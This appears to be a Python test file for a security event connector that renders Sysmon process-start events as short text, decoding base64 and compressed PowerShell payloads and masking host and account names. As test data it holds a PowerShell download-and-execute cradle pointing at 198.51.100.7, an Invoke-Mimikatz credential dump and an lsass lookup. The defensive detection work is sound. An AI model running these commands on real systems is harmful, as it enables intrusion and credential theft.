"""The model text: a function of the canonical form, short, the telling part first, payloads decoded."""

from __future__ import annotations

import base64
import gzip
import json
import zlib

import pytest
from hypothesis import given, settings, strategies as st

from connector.events import canonical, normalise, render
from connector.events.normalise import to_ecs
from connector.events.payload import MAX_DECODED, reveal
from connector.events.render import MAX_TEXT, cmdlets, command, program
from connector.types import RawEvent, SourceRef
from tests.events import strategies, vectors

REF = SourceRef(siem="t", index="i", id="1")


def _start(**data: str) -> str:
    document = {"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "event_data": data}}
    kind, ecs = to_ecs(document)
    return render(canonical(ecs, kind))


def _utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_a_process_start_reads_image_command_parent_user() -> None:
    text = _start(
        Image="C:\\Windows\\System32\\whoami.exe",
        CommandLine='"C:\\Windows\\System32\\whoami.exe" /all',
        ParentImage="C:\\Users\\alice\\evil.exe",
        User="CORP\\alice",
    )
    assert (
        text == "process start | whoami.exe | command whoami.exe /all | parent evil.exe in c:\\users\\user | user user"
    )


def test_an_encoded_command_is_shown_decoded_and_masked() -> None:
    code = _utf16("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")
    text = _start(Image="powershell.exe", CommandLine=f"powershell -enc {code}")
    assert "-enc iex (new-object net.webclient).downloadstring('http://public/a.ps1')" in text


@pytest.mark.parametrize(
    "pack", [gzip.compress, zlib.compress, lambda data: zlib.compress(data)[2:-4]], ids=["gzip", "zlib", "deflate"]
)
def test_a_compressed_payload_is_shown_decoded(pack: object) -> None:
    script = b"function Invoke-Thing { param($Computer) Get-WmiObject -Class Win32_Process } # " + b"padding words " * 4
    token = base64.b64encode(pack(script)).decode()  # type: ignore[operator]
    assert "function invoke-thing" in reveal(f"[convert]::frombase64string('{token}')")


def test_a_payload_inside_a_payload_is_shown_too() -> None:
    inner = _utf16("Invoke-Mimikatz -DumpCreds # 1")
    assert "invoke-mimikatz -dumpcreds" in reveal(_utf16(f"powershell -enc {inner}"))


def test_a_payload_that_the_cut_shortened_is_still_read() -> None:
    assert "get-process lsass" in reveal(_utf16("Get-Process lsass; " * 20)[:301])


def test_a_compression_bomb_gives_no_more_than_its_share() -> None:
    token = base64.b64encode(zlib.compress(b"A1b " * 5_000_000)).decode()[:1800]
    assert len(reveal(token)) <= MAX_DECODED


def test_bytes_that_are_no_text_are_cut_short() -> None:
    token = base64.b64encode(bytes(range(128, 256)) * 4).decode()
    assert reveal(f"x {token} y") == f"x {token[:24]}… y"


@settings(max_examples=150, deadline=None)
@given(strategies.DOCUMENTS)
def test_any_event_renders_within_the_limit_and_as_its_canonical_form_says(document: dict[str, object]) -> None:
    event = normalise(RawEvent(deployment="d", native_id="n", ref=REF, data=document))
    text = render(event.canonical)
    assert 0 < len(text) <= MAX_TEXT
    assert text == render(tuple((str(field), str(value)) for field, value in event.canonical))


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from(strategies.PIECES) | st.text("QUJDabc0+/=", min_size=4, max_size=40), max_size=8).map(
        "".join
    )
)
def test_revealing_never_fails(text: str) -> None:
    assert isinstance(reveal(text), str)


def test_no_text_names_the_host_or_the_account() -> None:
    for name, raw in vectors.golden().items():
        document = to_ecs(raw)[1]
        text = render(canonical(*reversed(to_ecs(raw))))
        host = document.get("host", {}).get("name", "")
        account = document.get("user", {}).get("name", "")
        for who in (host, account):
            common = who.lower() in {
                "",
                "-",
                "system",
                "local service",
                "network service",
                "administrator",
                "root",
                "web-7",
            }
            assert common or who.lower() not in text.lower(), (name, who)


@pytest.mark.parametrize(
    ("path", "wanted"),
    [
        ("c:\\windows\\system32\\cmd.exe", "cmd.exe"),
        ("<volume>\\windows\\system32\\cmd.exe", "cmd.exe"),
        ("%systemroot%\\system32\\cmd.exe", "cmd.exe"),
        ("c:\\windows\\system32\\wbem\\wmiprvse.exe", "wmiprvse.exe in wbem"),
        ("c:\\windows\\syswow64\\rundll32.exe", "rundll32.exe in syswow64"),
        ("c:\\program files (x86)\\vendor\\app\\x.exe", "x.exe in program files vendor"),
        ("c:\\users\\<user>\\x.exe", "x.exe in c:\\users\\<user>"),
        ("/usr/bin/curl", "/usr/bin/curl"),
        ("system", "system"),
    ],
)
def test_a_program_is_told_by_name_then_folder(path: str, wanted: str) -> None:
    assert program(path) == wanted


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ('"c:\\program files\\a b\\x.exe" -k "c:\\y z"', 'x.exe -k "c:\\y z"'),
        ("c:\\windows\\system32\\net.exe user", "net.exe user"),
        ("\\??\\c:\\windows\\system32\\conhost.exe 0x4", "conhost.exe 0x4"),
        ("net user", "net user"),
        ('"net" user', '"net" user'),
    ],
)
def test_a_command_line_loses_its_leading_folder_only(line: str, wanted: str) -> None:
    assert command(line) == wanted


def test_bound_parameters_read_as_typed() -> None:
    payload = 'commandinvocation(get-item): "get-item" parameterbinding(get-item): name="path"; value="c:\\x"'
    assert cmdlets(payload) == 'get-item -path "c:\\x"'


def test_an_original_name_is_told_only_where_it_differs() -> None:
    assert "original" not in _start(Image="C:\\x\\psexec.exe", OriginalFileName="PSEXEC.EXE")
    assert "original name psexec.c" in _start(Image="C:\\x\\svc.exe", OriginalFileName="psexec.c")


def test_texts_are_json_safe() -> None:
    assert json.loads(json.dumps(vectors.texts())) == vectors.texts()
